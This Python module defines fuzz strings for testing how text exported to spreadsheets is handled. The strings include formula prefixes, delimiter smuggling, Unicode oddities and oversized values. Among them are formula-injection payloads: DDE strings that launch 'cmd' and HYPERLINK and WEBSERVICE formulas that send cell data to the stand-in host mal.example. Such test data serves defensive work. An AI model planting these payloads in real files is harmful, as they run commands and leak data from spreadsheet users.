"""Texts that a spreadsheet could take for formulas, or choke on: what somebody might type in a chat."""

import itertools

_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", "＝", "＋", "－", "＠", " =", "\u00a0=", "'=", '"=', "==", "=-", "+-", "@=", "-+=")
_BODIES = (
    "1+1",
    "SUM(1;1)",
    "SUM(1,1)",
    'HYPERLINK("https://mal.example/?"&A1;"aquí")',
    "cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    'WEBSERVICE("https://mal.example")',
    "2-1&\"x\"",
    "A1",
)  # fmt: skip
_MIDDLES = (
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a|=1+1",
    "a\n=1+1\nb",
    "a, =1+1",
    "a;=1+1;b",
    'a",=1+1,"b',
    'a";=1+1;"b',
    "a\r\n=1+1\r\n",
    "a,+1+1,b",
    "x\n\n@SUM(1+1)",
)
_OTHERS = (
    "", " ", "'", '"', '""', "\n", "\t", "\t\n", "a\tb", " a ", "\u00a0a", "a\nb\n", "0010", "1e5", "12/3", "3-4", "1,5", "1.234,5", "TRUE", "VERDADERO", "#N/A", "#REF!",
    "+34 910 000 010", "- una\n- dos", "@Hacienda", "¿Cuándo?", "ñandú 😀👍🏽", "日本語", "العربية", "_x000D_", "_x0041_x0042_", "_x005F_", "_x005F_x000D_", "a_x000a_b", "_xa_", "_x0_", "_x00041_", "_x_", "&lt;b&gt;", "<c t='n'>&amp;",
    "]]>", "<!--", "%00", "{=1+1}", "0x1F", "١٢", "²", "sep=;", "ID", "a\x00b", "\x07", "\x1b[31m", "\u202eabc", "\ufffe", "\uffff", "\ud800", "a\x0bb", "\x85x", "e\u0301", "\ufeffx", "x" * 255, "=" * 300,
    "ab\n" * 200, "x" * 32_767, "x" * 32_768, "=" + "1+" * 20_000 + "1", "\n" * 300, ", " * 200,
)  # fmt: skip

TEXTS = (*(start + body for start, body in itertools.product(_STARTS, _BODIES)), *_MIDDLES, *_OTHERS)
